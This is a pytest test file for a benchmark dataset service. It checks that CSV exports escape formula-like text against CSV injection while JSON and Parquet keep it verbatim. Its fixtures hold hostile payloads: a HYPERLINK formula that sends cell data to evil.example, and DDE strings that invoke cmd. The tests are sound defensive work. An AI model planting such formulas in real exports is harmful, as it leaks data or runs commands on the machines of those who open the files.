"""CSV exports and release CSVs make formula-like text inert (CSV injection); JSON, NDJSON and Parquet keep it."""

from __future__ import annotations

import csv
import io
import json

import pytest

from analysis.factor_effects import refresh_factor_effects
from analysis.models import Measurement
from analysis.tests.factories import DriveModelAggregateFactory, HostFactory, SteadyStateWindowFactory, iops_run
from analysis.tests.factories_dirth import add_results
from analysis.tests.recovery_rows import add_recovery_rows
from analysis.tests.surface_factory import surface_run
from datasets import export_rows, parquet, writers
from datasets.releases import build_release
from datasets.spreadsheet import FORMULA_PREFIXES, spreadsheet_safe
from datasets.tables import TABLES, Column

NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
FIRMWARE = "-2+3+cmd|' /C calc'!A0"
CPU = "@SUM(1+1)*cmd|' /C calc'!A0"
OS_NAME = "\t=1+1"
KERNEL = "+1"
HOSTILE = {"drive_name": NAME, "firmware": FIRMWARE, "host_cpu_model": CPU, "host_os": OS_NAME, "host_kernel": KERNEL}


@pytest.fixture
def hostile_run(db):
    host = HostFactory(cpu_model=CPU, os_name=OS_NAME, kernel=KERNEL)
    run = iops_run(
        rounds=5, mixes=(100,), block_sizes=(4096,), drive_model__name=NAME, firmware__revision=FIRMWARE, host=host
    )
    SteadyStateWindowFactory(test_run=run)
    Measurement.objects.filter(test_run=run).update(write_iops=-5.0)
    surface_run(**{k: getattr(run, k) for k in ("submission", "drive_model", "firmware", "unit", "host", "pcie_link")})
    add_recovery_rows(run)  # the HIR/XSR tables
    add_results(run)  # the demand-intensity and histogram tables
    DriveModelAggregateFactory(drive_model=run.drive_model)  # the aggregates table
    type(run).objects.filter(pk=run.pk).update(headline={"iops_4k_read": 5e5})
    refresh_factor_effects(run.drive_model)  # the factor_effects table (its reference firmware is the hostile one)
    export_rows.rebuild_all()  # the measurements CSV's rows, as ingest writes them
    return run


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def body(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("value", [NAME, FIRMWARE, CPU, OS_NAME, KERNEL, "\r=2", "-5", "@"])
def test_a_text_cell_starting_like_a_formula_gets_an_apostrophe(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Samsung SSD 970", "", "1B2QEXM7", "a=b", -5, -5.5, 0, None, True])
def test_other_cells_and_numbers_stay_as_they_are(value):
    assert spreadsheet_safe(value) is value


def test_the_python_csv_writer_neutralises_text_columns_only():
    columns = [Column("name", "string", "", "name"), Column("value", "number", "", "value")]
    content = b"".join(writers.write_csv(columns, [(FIRMWARE, -5.0), ("-5", -5)]))
    assert list(csv.reader(io.StringIO(content.decode()))) == [
        ["name", "value"],
        ["'" + FIRMWARE, "-5"],  # a float as PostgreSQL spells it (datasets.float_text)
        ["'-5", "-5"],
    ]


@pytest.mark.django_db
def test_csv_exports_neutralise_every_hostile_text_and_keep_negative_numbers(client, hostile_run):
    rows = csv_rows(body(client.get("/datasets/measurements.csv")))
    assert rows
    for row in rows:
        for column, value in HOSTILE.items():
            assert row[column] == "'" + value, column
        assert float(row["write_iops"]) == -5.0
    (drive,) = csv_rows(body(client.get("/datasets/drives.csv")))
    assert drive["drive_name"] == "'" + NAME


@pytest.mark.django_db
@pytest.mark.parametrize("table", list(TABLES))
def test_no_text_cell_of_any_csv_table_starts_like_a_formula(client, hostile_run, table):
    rows = csv_rows(body(client.get(f"/datasets/{table}.csv")))
    assert rows
    text_columns = [c.name for c in TABLES[table].columns if c.type == "string"]
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(FORMULA_PREFIXES), (column, row[column])


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["json", "ndjson", "parquet"])
def test_json_ndjson_and_parquet_keep_the_value_verbatim(client, hostile_run, fmt):
    content = body(client.get(f"/datasets/measurements.{fmt}"))
    if fmt == "json":
        rows = json.loads(content)
    elif fmt == "ndjson":
        rows = [json.loads(line) for line in content.decode().splitlines()]
    else:
        rows = parquet.read_table(content).to_pylist()
    assert rows
    for row in rows:
        assert {column: row[column] for column in HOSTILE} == HOSTILE
        assert row["write_iops"] == -5.0


@pytest.mark.django_db
def test_a_release_csv_is_neutralised_and_its_parquet_verbatim(hostile_run, releases_dir):
    assert build_release().number == 1
    release = releases_dir / "1"
    with open(release / "measurements.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows and all(row["drive_name"] == "'" + NAME and row["firmware"] == "'" + FIRMWARE for row in rows)
    assert all(float(row["write_iops"]) == -5.0 for row in rows)
    table = parquet.read_table(release / "measurements.parquet").to_pylist()
    assert table and all(row["drive_name"] == NAME and row["firmware"] == FIRMWARE for row in table)
